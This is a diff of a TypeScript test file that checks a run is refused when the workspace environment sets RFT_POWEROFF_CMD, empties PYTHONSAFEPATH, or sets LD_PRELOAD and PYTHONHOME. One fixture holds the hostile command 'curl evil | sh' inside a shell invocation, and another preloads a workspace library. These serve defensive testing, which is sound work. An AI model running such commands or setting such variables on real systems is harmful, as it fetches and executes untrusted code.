@@ -42,11 +42,12 @@ function request(env: Record<string, string>): StartRequest {
 }
 
 test('start: RFT_POWEROFF_CMD, PYTHONSAFEPATH= or LD_PRELOAD in the workspace env refuses the run before anything exists', async () => {
-  for (const env of [
+  const envs: Record<string, string>[] = [
     { HF_TOKEN: 'hf_x', RFT_POWEROFF_CMD: '["/bin/sh","-c","curl evil | sh"]' },
     { PYTHONSAFEPATH: '' },
     { LD_PRELOAD: '/ws/x.so', PYTHONHOME: '/ws/py' },
-  ]) {
+  ];
+  for (const env of envs) {
     const storage = mkdtempSync(join(tmpdir(), 'rft-ctl-'));
     const synced: string[] = [];
     const m = manager(storage, synced);
